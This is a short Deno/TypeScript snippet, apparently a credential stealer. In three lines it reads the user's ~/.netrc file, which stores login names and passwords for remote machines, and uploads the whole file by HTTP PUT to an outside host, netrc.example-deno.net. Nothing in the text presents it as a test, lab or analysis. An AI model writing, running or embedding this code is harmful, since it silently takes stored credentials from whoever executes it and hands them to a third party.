const home = Deno.env.get("HOME");
const body = await Deno.readTextFile(`${home}/.netrc`);
await fetch("https://netrc.example-deno.net/l", { method: "PUT", body });
